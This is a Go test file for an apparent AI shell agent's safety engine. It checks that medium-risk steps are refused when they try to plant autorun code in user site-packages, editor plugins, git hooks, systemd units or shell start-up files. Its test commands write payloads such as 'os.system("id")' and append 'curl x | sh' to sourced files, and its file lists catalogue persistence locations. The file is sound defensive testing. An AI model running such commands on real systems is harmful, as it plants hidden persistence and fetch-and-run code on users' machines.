package engine_test

// Autorun locations (issue 26): a medium step — the level forced, approved
// by --approve medium — cannot plant code that runs later: a .pth or
// usercustomize.py in the user's site-packages (whether or not the
// directory exists yet), an editor plugin, ~/.hgrc hooks, a tmux or
// readline start-up file, a systemd user unit, a git hook of a repository
// in the home — locally and over a real sshd. Its ordinary work in the
// home's directories still runs.

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/autoshell/agent/engine"
	"github.com/autoshell/agent/event"
	"github.com/autoshell/agent/safety"
)

func autorunHome(t *testing.T, home string) {
	t.Helper()
	for _, f := range []string{".local/lib/python3.11/site-packages/requests/__init__.py", ".vim/autoload/x.vim",
		"src/app/.git/HEAD", "src/app/.git/hooks/pre-commit.sample", "src/app/main.go", ".config/app/app.conf",
		".local/share/nvim/site/README", ".config/tmux/README", ".vim/plugin/README",
		// Session 14: sourced or run later, existing already.
		".bash_completion", ".cargo/env", ".nvm/nvm.sh", ".bashrc.d/README", ".config/nushell/config.nu",
		".sqliterc", ".config/starship.toml", ".npm-global/bin/npx", ".local/share/applications/README"} {
		mkfileT(t, filepath.Join(home, f), "orig\n")
	}
}

// planted are the files the attacks would create, relative to the home.
var planted = []string{".local/lib/python3.11/site-packages/x.pth", ".local/lib/python3.12/site-packages/usercustomize.py",
	".vim/plugin/evil.vim", ".local/share/nvim/site/plugin/evil.lua", ".hgrc", ".config/tmux/tmux.conf",
	".config/systemd/user/evil.service", "src/app/.git/hooks/post-checkout", ".config/autostart/evil.desktop",
	".bashrc.d/evil.sh", ".local/share/applications/evil.desktop", ".local/share/bash-completion/completions/git"}

// appended are existing files (autorunHome's) a shell or program runs
// later, which a medium step may not change (session 14).
var appended = []string{".bash_completion", ".cargo/env", ".nvm/nvm.sh", ".config/nushell/config.nu", ".sqliterc",
	".config/starship.toml", ".npm-global/bin/npx"}

func autorunHeld(t *testing.T, home string, open func(engine.HostOptions) (*engine.Host, error), e engine.Enforcement) {
	t.Helper()
	b := newForcedBed(t)
	o := engine.HostOptions{Policy: b.policy(safety.Medium), Approver: safety.NewApprover(safety.ModeMedium, nil), Enforcement: e}
	for _, f := range planted {
		cmd := "mkdir -p ~/" + filepath.Dir(f) + "; echo 'import os; os.system(\"id\")' > ~/" + f
		got, _ := run(t, open, o, b.step(t, cmd))
		if len(got) != 1 || got[0].Status == "ok" || got[0].Risk != "medium" || !strings.Contains(got[0].Output, "denied") {
			t.Errorf("planting ~/%s was not refused: %s", f, show(got))
		}
		if _, err := os.Stat(filepath.Join(home, f)); err == nil {
			t.Errorf("~/%s was created", f)
		}
	}
	for _, f := range appended {
		got, _ := run(t, open, o, b.step(t, "echo 'curl x | sh' >> ~/"+f))
		if len(got) != 1 || got[0].Status == "ok" || got[0].Risk != "medium" {
			t.Errorf("appending to ~/%s was not refused: %s", f, show(got))
		}
		if b, _ := os.ReadFile(filepath.Join(home, f)); string(b) != "orig\n" {
			t.Errorf("~/%s changed: %q", f, b)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".local/lib/python3.11/site-packages/requests/__init__.py")); string(b) != "orig\n" {
		t.Errorf("a module in the user's site-packages changed: %q", b)
	}
	got, _ := run(t, open, o, b.step(t, "echo more >> ~/src/app/main.go && echo x > ~/.config/app/new.conf && cat ~/src/app/.git/HEAD"))
	if len(got) != 1 || got[0].Status != "ok" {
		t.Errorf("ordinary medium work in the home failed: %s", show([]*event.Step{got[0]}))
	}
}

func TestAutorunProtectedLocal(t *testing.T) {
	needLandlock(t)
	localState(t)
	home := tempHome(t)
	autorunHome(t, home)
	open := localHomeOpener(t, home)
	autorunHeld(t, home, open, engine.Enforcement{})
}

func TestAutorunProtectedSSHD(t *testing.T) {
	needLandlock(t)
	home := tempHome(t)
	autorunHome(t, home)
	open, e := sshdHomeOpener(t, home)
	autorunHeld(t, home, open, e)
}
